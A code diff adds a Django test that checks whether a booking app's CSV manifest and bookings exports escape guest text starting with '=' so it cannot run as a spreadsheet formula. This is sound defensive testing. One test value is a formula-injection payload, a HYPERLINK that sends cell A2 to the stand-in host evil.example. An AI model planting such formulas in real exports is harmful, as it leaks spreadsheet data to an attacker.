@@ -178,3 +178,21 @@ def test_a_bad_date_shows_today_and_an_error_not_a_500(client, world):
     for value in ("2026-02-30", "yesterday", "9999-99-99"):
         assert client.get(reverse("booking_manifest"), {"date": value}).status_code == 200
     assert client.get(reverse("booking_manifest"), {"offer": "abc"}).status_code == 200
+
+
+def test_exports_keep_formula_like_guest_text_as_text(client, world):
+    """A guest's note or name starting with "=" must not run as a formula in the host's
+    spreadsheet: the manifest and the bookings export keep it as text."""
+    day = today() + timedelta(days=3)
+    booking = make_booking(world.offer_a, day=day)
+    booking.guest_name = "=1+1"
+    booking.guest_notes = '=HYPERLINK("http://evil.example/?"&A2,"click")'
+    booking.save()
+    client.force_login(world.users["a"])
+    manifest = client.get(reverse("booking_manifest"), {"date": day.isoformat(), "format": "csv"})
+    body = manifest.content.decode("utf-8-sig")
+    assert "'=1+1" in body and "'=HYPERLINK" in body
+    assert "\n=" not in body and ",=" not in body
+    export = client.get(reverse("bookings:index"), {"export": "csv"})
+    text = b"".join(export.streaming_content).decode() if export.streaming else ""
+    assert "'=1+1" in text and ",=1+1" not in text
